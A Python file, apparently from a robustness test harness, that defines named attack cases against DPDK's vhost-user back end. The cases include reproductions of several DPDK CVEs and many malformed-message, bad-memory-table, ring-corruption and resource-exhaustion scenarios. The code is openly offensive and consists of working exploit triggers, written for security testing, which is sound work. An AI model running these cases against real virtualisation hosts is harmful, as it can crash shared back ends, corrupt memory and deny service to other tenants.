# SPDX-License-Identifier: BSD-3-Clause
"""Attacks with a name: what is known to have broken a vhost-user back end, and DPDK's CVEs by number.

Each is a function of a connected Master; it may raise Closed or TimeoutError at any time, which is
how an attack usually ends. What matters is what became of the others (run.py).
"""

import contextlib
import fcntl
import os
import struct
import time

from master import *  # noqa: F403  pylint: disable=wildcard-import

CASES = {}


def case(function):
    CASES[function.__name__.replace("_", "-")] = function
    return function


def honest(m, size=256):
    m.start(size)
    m.post(64)
    m.send(8)
    time.sleep(0.02)


# -- CVEs ---------------------------------------------------------------------------------------

@case
def cve_2020_10722_log_offset_overflow(m):
    """SET_LOG_BASE whose offset and size overflow: memory outside the mapping was written."""
    honest(m)
    for size, offset in ((0x1000, 2**64 - 0x1000), (2**64 - 1, 2), (0x1000, 2**63)):
        m.tell(SET_LOG_BASE, struct.pack("<QQ", size, offset), [m.fd])


@case
def cve_2020_10723_inflight_index_truncated(m):
    """GET/SET_INFLIGHT_FD with counts that overflow 16 bits."""
    honest(m)
    m.tell(SET_INFLIGHT_FD, struct.pack("<QQHH4x", 0x1000, 0, 0xffff, 0xffff), [m.fd])
    m.tell(GET_INFLIGHT_FD, struct.pack("<QQHH4x", 0, 0, 0xffff, 0xffff))
    m.sync()


@case
def cve_2020_10724_crypto_lengths(m):
    """A crypto session with key lengths beyond its buffers."""
    honest(m)
    m.tell(CRYPTO_CREATE, struct.pack("<qIIIIIII", 1, 2, 3, 0xffffffff, 1, 0xffffffff, 0xffffffff,
                                      0xffffffff) + bytes(592))
    m.sync()


@case
def cve_2020_10725_descriptor_chain_out_of_memory(m):
    """An avail entry far beyond the table, and an address the memory does not have."""
    honest(m)
    m.descriptor(RX, 0, 2**64 - 1, 2048, WRITE)
    m.offer(RX, 0, 128)
    m.offer(RX, 0xffff, 32)
    m.descriptor(TX, 5, 2**64 - 64, 2048)
    m.offer(TX, 5, 16)
    time.sleep(0.05)


@case
def cve_2020_10726_get_inflight_again_and_again(m):
    """GET_INFLIGHT_FD leaked a mapping and a descriptor each time."""
    m.introduce()
    for _ in range(64):
        m.tell(GET_INFLIGHT_FD, struct.pack("<QQHH4x", 0, 0, 2, 256))
        m.reply()


@case
def cve_2021_3839_inflight_queues_beyond_the_last(m):
    """SET_INFLIGHT_FD for more queues than there are, with a file too small for them."""
    m.introduce()
    for queues in (0, 0x80, 0x101, 0x8000):
        m.tell(SET_INFLIGHT_FD, struct.pack("<QQHH4x", 0x1000, 0, queues, 256), [m.fd])


@case
def cve_2022_0669_descriptors_that_are_not_closed(m):
    """Messages that carry no descriptors sent with eight of them, and the other way round."""
    honest(m)
    for request in (SEND_RARP, NET_SET_MTU, SET_STATUS, SET_VRING_NUM, SET_VRING_BASE):
        m.tell(request, struct.pack("<II", 0, 1500), [m.fd] * 8)


@case
def cve_2022_2132_header_over_many_descriptors(m):
    """The virtio header itself spread over descriptors, of which each is too small."""
    m.start()
    for pieces in (12, 13, 100):
        for i in range(pieces):
            m.descriptor(TX, i, BUFFERS + i, 1, NEXT if i < pieces - 1 else 0, i + 1)
        m.offer(TX, 0, 4)
        for i in range(pieces):
            m.descriptor(RX, i, BUFFERS + i, 1, WRITE | (NEXT if i < pieces - 1 else 0), i + 1)
        m.offer(RX, 0, 16)
        time.sleep(0.02)


@case
def cve_2024_11614_checksum_of_a_short_packet(m):
    """A header that asks for a checksum far beyond the packet. (The CVE is in the virtio driver; the
    same header is read by librte_vhost when offloads are negotiated.)"""
    m.introduce(features=(1 << 32) | (1 << 0) | (1 << 1))  # not offered: refused
    m.share()
    for ring in (RX, TX):
        m.start_ring(ring)
    m.memory[BUFFERS + 0x400000:BUFFERS + 0x400000 + 12] = struct.pack(
        "<BBHHHHH", 1, 3, 0xffff, 1, 0xfff0, 0xfff0, 1)
    m.send(16)
    time.sleep(0.02)


# -- messages -----------------------------------------------------------------------------------

@case
def half_a_header_and_silence(m):
    m.raw(b"\x01\0\0")
    time.sleep(0.5)


@case
def half_a_message_and_silence(m):
    honest(m)
    m.tell(SET_MEM_TABLE, struct.pack("<II", 1, 0), size=40, fds=[m.fd])
    time.sleep(0.5)


@case
def sizes_that_lie(m):
    m.introduce()
    m.tell(SET_FEATURES, b"", size=0)
    m.tell(SET_VRING_NUM, b"", size=0)
    m.tell(SET_VRING_ADDR, bytes(8))
    m.tell(SET_MEM_TABLE, struct.pack("<II", 8, 0), [m.fd] * 8)


@case
def size_of_four_gigabytes(m):
    m.raw(struct.pack("<III", SET_FEATURES, VERSION, 0xffffffff) + bytes(64))


@case
def fifty_descriptors_in_a_message(m):
    m.introduce()
    m.u64(SET_VRING_CALL, 0, [m.fd] * 50)


@case
def unknown_requests_and_versions(m):
    honest(m)
    for request in (0, 23, 33, 38, 41, 255, 0x7fffffff, 0xffffffff):
        m.tell(request, bytes(8))
    for flags in (0, 2, 3, 5, 0xffffffff):
        m.tell(GET_FEATURES, flags=flags)


@case
def postcopy(m):
    honest(m)
    m.tell(POSTCOPY_ADVISE)
    m.tell(POSTCOPY_LISTEN)
    m.share(regions=[(0, MEMORY // 2, USER_BASE, 0)])
    m.tell(POSTCOPY_END)


@case
def dirty_log(m):
    """A log that is far too small, and rings that are to be logged."""
    honest(m)
    m.tell(SET_LOG_BASE, struct.pack("<QQ", 8, 0), [m.fd])
    m.u64(SET_FEATURES, m.features | 1 << 26)
    for ring in (RX, TX):
        m.addresses(ring, flags=1)
    m.send(32)
    time.sleep(0.05)


@case
def iommu_and_status_games(m):
    honest(m)
    m.tell(IOTLB_MSG, struct.pack("<QQQBB6x", 0, 2**64 - 1, 0, 3, 2))
    for status in (0, 0xff, 0x80, 4):
        m.u64(SET_STATUS, status)
    m.tell(GET_STATUS)
    m.sync()


@case
def ring_number_beyond_the_two(m):
    for ring in (2, 3, 128, 255):
        m.state(SET_VRING_ENABLE, ring, 1)
        m.state(SET_VRING_NUM, ring, RING_MAX)


@case
def two_hundred_fifty_six_rings_of_the_largest_size(m):
    """Would take hundreds of megabytes of everybody's hugepages."""
    m.introduce()
    for ring in range(255, -1, -1):
        m.state(SET_VRING_NUM, ring, RING_MAX)
    m.sync()
    time.sleep(0.2)


@case
def ring_sizes(m):
    m.introduce()
    m.share()
    for size in (0, 3, 65535, 65536, 0xffffffff, RING_MAX):
        m.state(SET_VRING_NUM, 0, size)
        m.state(SET_VRING_NUM, 1, size)
    m.start_ring(RX, RING_MAX)
    m.start_ring(TX, RING_MAX)
    m.sync()


@case
def ring_of_size_0(m):
    m.start()
    m.reset = [m.state(GET_VRING_BASE, ring, 0) for ring in (RX, TX)]
    m.size = [256, 256]
    for ring in (RX, TX):
        m.start_ring(ring, 0)
    m.size = [256, 256]
    m.post(64)
    m.send(64)
    time.sleep(0.05)


@case
def ring_that_grows_while_it_runs(m):
    """NUM after the addresses were checked for a smaller one: the ring then ends outside."""
    m.introduce()
    m.share()
    for ring in (RX, TX):
        m.state(SET_VRING_NUM, ring, 2)
        m.state(SET_VRING_BASE, ring, 0)
        end = USER_BASE + MEMORY
        m.addresses(ring, desc=end - 64 - 32 * ring, avail=end - 128 - 32 * ring,
                    used=end - 256 - 64 * ring)
        m.u64(SET_VRING_KICK, ring, [m.event()])
        m.u64(SET_VRING_CALL, ring, [m.event()])
        m.state(SET_VRING_ENABLE, ring, 1)
    m.sync()
    for ring in (RX, TX):
        m.state(SET_VRING_NUM, ring, RING_MAX)
    m.state(SET_VRING_BASE, TX, 30000)
    m.state(SET_VRING_BASE, RX, 30000)
    m.sync()
    time.sleep(0.1)


@case
def ring_started_again_without_a_size(m):
    """GET_VRING_BASE frees what SET_VRING_NUM had allocated."""
    honest(m)
    for ring in (RX, TX):
        m.state(GET_VRING_BASE, ring, 0)
        m.reply()
    for ring in (RX, TX):
        m.addresses(ring)
        m.u64(SET_VRING_KICK, ring, [m.event()])
        m.u64(SET_VRING_CALL, ring, [m.event()])
        m.state(SET_VRING_ENABLE, ring, 1)
    m.sync()
    m.post(64)
    m.send(64)
    time.sleep(0.1)


@case
def ring_base_twice_and_of_stopped_rings(m):
    honest(m)
    for _ in range(3):
        for ring in (RX, TX, RX):
            m.state(GET_VRING_BASE, ring, 0)
            m.reply()
    for ring in (RX, TX):
        m.start_ring(ring)
    m.sync()


@case
def kick_before_anything(m):
    for ring in (RX, TX):
        m.u64(SET_VRING_KICK, ring, [m.event()])
        m.u64(SET_VRING_CALL, ring, [m.event()])
        m.state(SET_VRING_ENABLE, ring, 1)
    m.introduce()
    m.share()
    m.sync()
    m.post(8)
    time.sleep(0.05)


@case
def addresses_at_the_very_end(m):
    """The beginning of each part lies inside, its end outside."""
    for part in ("desc", "avail", "used"):
        m.introduce()
        m.share()
        for ring in (RX, TX):
            m.state(SET_VRING_NUM, ring, 256)
            m.addresses(ring, **{part: USER_BASE + MEMORY - (1 if part == "desc" else 2)})
            for _ in range(2):
                m.u64(SET_VRING_KICK, ring, [m.event()])
            m.u64(SET_VRING_CALL, ring, [m.event()])
            m.state(SET_VRING_ENABLE, ring, 1)
        m.sync()
        time.sleep(0.05)


@case
def addresses_that_change_while_it_runs(m):
    honest(m)
    for address in (0, USER_BASE + 1, USER_BASE + MEMORY - 16, 2**64 - 4096, USER_BASE):
        for ring in (RX, TX):
            m.addresses(ring, desc=address, avail=address, used=address)
        time.sleep(0.01)
    m.sync()


@case
def features_that_change_while_it_runs(m):
    honest(m)
    for features in (0, m.features & ~(1 << 29), m.features ^ (1 << 15), 2**64 - 1, m.features):
        m.u64(SET_FEATURES, features)
    m.sync()


@case
def reset_owner_again_and_again(m):
    """Leaks memory of everybody in librte_vhost each time."""
    for _ in range(200):
        for ring in (RX, TX):
            m.state(SET_VRING_NUM, ring, RING_MAX)
        m.tell(RESET_OWNER)
    m.sync()


@case
def answers_that_nobody_reads(m):
    """Until our end of the socket is full: who writes to it then must not wait."""
    honest(m)
    for _ in range(2000):
        m.state(SET_VRING_ENABLE, RX, 1, flags=VERSION | NEED_REPLY)


@case
def questions_whose_answers_nobody_reads(m):
    honest(m)
    for _ in range(2000):
        m.tell(GET_FEATURES)


@case
def log_base_answers_that_nobody_reads(m):
    honest(m)
    for _ in range(2000):
        m.tell(SET_LOG_BASE, struct.pack("<QQ", 4096, 0), [m.fd])


# -- memory -------------------------------------------------------------------------------------

@case
def region_past_the_end_of_its_file(m):
    m.introduce()
    m.share(regions=[(0, 1 << 30, USER_BASE, 0)])
    for ring in (RX, TX):
        base = USER_BASE + MEMORY + ring * RING_STEP
        m.state(SET_VRING_NUM, ring, 256)
        m.addresses(ring, desc=base, avail=base + AVAIL, used=base + USED)
        m.u64(SET_VRING_KICK, ring, [m.event()])
        m.u64(SET_VRING_CALL, ring, [m.event()])
        m.state(SET_VRING_ENABLE, ring, 1)
    m.sync()
    time.sleep(0.1)


@case
def buffers_past_the_end_of_the_file(m):
    m.introduce()
    m.share(regions=[(0, 1 << 30, USER_BASE, 0)])
    for ring in (RX, TX):
        m.start_ring(ring)
    m.sync()
    for i in range(64):
        m.descriptor(RX, i, MEMORY + i * BUFFER, BUFFER, WRITE)
        m.offer(RX, i)
        m.descriptor(TX, i, MEMORY + i * BUFFER, 100)
        m.offer(TX, i)
    time.sleep(0.1)


@case
def file_cut_short_while_it_runs(m):
    """The memory of all rings and buffers vanishes: SIGBUS for who touches it."""
    honest(m)
    os.ftruncate(m.fd, 0)
    time.sleep(0.1)
    os.ftruncate(m.fd, MEMORY)


@case
def memory_that_cannot_be_mapped(m):
    """The new table fails when the old one is gone: rings must not be used with either."""
    honest(m)
    sealed = os.memfd_create("sealed", os.MFD_ALLOW_SEALING)
    os.ftruncate(sealed, MEMORY)
    fcntl.fcntl(sealed, fcntl.F_ADD_SEALS, fcntl.F_SEAL_WRITE)
    m.fds.append(sealed)
    read_only = os.open(f"/proc/self/fd/{m.fd}", os.O_RDONLY)
    m.fds.append(read_only)
    for fd in (sealed, read_only):
        m.share(regions=[(0, MEMORY, USER_BASE + 0x1000, 0)], fds=[fd],
                flags=VERSION | NEED_REPLY)
        time.sleep(0.1)


@case
def memory_of_the_wrong_kind(m):
    m.introduce()
    directory = os.open("/", os.O_RDONLY)
    m.fds.append(directory)
    for fd in (m.event(), directory, m.sock.fileno()):
        m.share(fds=[fd], flags=VERSION | NEED_REPLY)


@case
def memory_tables_that_lie(m):
    m.introduce()
    for regions in ([], [(0, 0, USER_BASE, 0)], [(0, MEMORY, USER_BASE, 2**64 - 4096)],
                    [(0, 2**64 - 1, USER_BASE, 0)], [(2**64 - 4096, MEMORY, 2**64 - 4096, 0)],
                    [(0, MEMORY, USER_BASE, 0)] * 8):
        m.share(regions, flags=VERSION | NEED_REPLY)
    m.tell(SET_MEM_TABLE, struct.pack("<II", 0xffffffff, 0) + bytes(256), [m.fd] * 8)


@case
def memory_table_during_traffic(m):
    """Allowed (hotplug); each time all rings are translated anew."""
    honest(m)
    for i in range(100):
        m.share([(0, MEMORY, USER_BASE, 0)] if i % 2 else
                [(0, MEMORY // 2, USER_BASE, 0), (MEMORY // 2, MEMORY // 2,
                                                  USER_BASE + MEMORY // 2, MEMORY // 2)])
        m.post(16)
        m.send(16)
    m.sync()


@case
def memory_table_without_the_rings(m):
    honest(m)
    m.share([(0, 0x1000, USER_BASE + MEMORY, 0)])
    time.sleep(0.05)


@case
def memory_table_without_a_region(m):
    honest(m)
    m.share([])
    time.sleep(0.05)


# -- descriptors --------------------------------------------------------------------------------

def full(fd):
    """As much in it as it takes: another byte would have to wait."""
    os.set_blocking(fd, False)
    with contextlib.suppress(BlockingIOError):
        os.write(fd, struct.pack("<Q", 2**64 - 2))
    os.set_blocking(fd, True)


@case
def call_descriptor_that_blocks(m):
    """Who tells the guest that its ring has news waits for ever, if it waits."""
    m.start()
    for ring in (RX, TX):
        fd = m.event()
        full(fd)
        m.u64(SET_VRING_CALL, ring, [fd])
    for i in range(4):
        m.post(32)
        m.send(32)
        time.sleep(0.03)


@case
def call_descriptor_that_is_a_full_pipe(m):
    m.start()
    read_end, write_end = os.pipe()
    m.fds += [read_end, write_end]
    os.set_blocking(write_end, False)
    with contextlib.suppress(BlockingIOError):
        while True:
            os.write(write_end, bytes(65536))
    os.set_blocking(write_end, True)
    for ring in (RX, TX):
        m.u64(SET_VRING_CALL, ring, [write_end])
    m.post(32)
    m.send(32)
    time.sleep(0.1)


@case
def kick_descriptor_of_another_kind(m):
    m.start()
    read_end, write_end = os.pipe()
    m.fds += [read_end, write_end]
    zero = os.open("/dev/zero", os.O_RDWR)
    m.fds.append(zero)
    for fd in (m.fd, zero, m.sock.fileno(), read_end):
        m.u64(SET_VRING_KICK, TX, [fd])
    m.sync()


# -- rings --------------------------------------------------------------------------------------

@case
def chain_that_is_a_loop(m):
    m.start()
    for ring, write in ((RX, WRITE), (TX, 0)):
        m.descriptor(ring, 0, BUFFERS, 64, NEXT | write, 1)
        m.descriptor(ring, 1, BUFFERS, 64, NEXT | write, 0)
        m.offer(ring, 0, 200)
    time.sleep(0.1)


@case
def chains_of_nothing(m, size=1024):
    """Every entry a chain as long as the ring, of no bytes: the square of its size to walk for one
    packet."""
    m.start(size)
    for ring, write in ((RX, WRITE), (TX, 0)):
        for i in range(size):
            m.descriptor(ring, i, BUFFERS, 0, write | (NEXT if i < size - 1 else 0), i + 1)
        for _ in range(size):
            m.offer(ring, 0)
    time.sleep(0.5)


@case
def chains_of_nothing_in_the_largest_ring(m):
    chains_of_nothing(m, RING_MAX)


@case
def indirect_tables(m):
    m.start()
    table = BUFFERS + 0x100000
    for length in (0, 15, 16, 4096, 0xfffffff0, 0xffffffff):
        for flags in (INDIRECT, INDIRECT | NEXT, INDIRECT | WRITE):
            for at in (table, MEMORY - 8, 2**64 - 16, 0):
                m.descriptor(TX, 0, at, length, flags, 0)
                m.descriptor(RX, 0, at, length, flags, 0)
                struct.pack_into("<QIHH", m.memory, table, table, 4096, INDIRECT | NEXT, 0)
                m.offer(TX, 0)
                m.offer(RX, 0)
    time.sleep(0.1)


@case
def index_that_jumps(m):
    m.start()
    for value in (1, 0x8000, 0xffff, 0, 300, 257):
        m.index(RX, value)
        m.index(TX, value)
        time.sleep(0.02)


@case
def frame_of_many_megabytes(m):
    m.start()
    for i in range(256):
        m.descriptor(TX, i, BUFFERS, 0x700000, NEXT if i < 255 else 0, i + 1)
    m.offer(TX, 0, 256)
    time.sleep(0.1)


@case
def used_ring_over_everything_else(m):
    """Each used entry overwrites the descriptors and avail entries that are still to be read."""
    m.introduce()
    m.share()
    for ring in (RX, TX):
        base = USER_BASE + ring * RING_STEP
        m.state(SET_VRING_NUM, ring, 256)
        m.state(SET_VRING_BASE, ring, 0)
        m.addresses(ring, desc=base, avail=base, used=base)
        m.u64(SET_VRING_KICK, ring, [m.event()])
        m.u64(SET_VRING_CALL, ring, [m.event()])
        m.state(SET_VRING_ENABLE, ring, 1)
    m.sync()
    m.memory[0:4096] = os.urandom(4096)
    time.sleep(0.1)
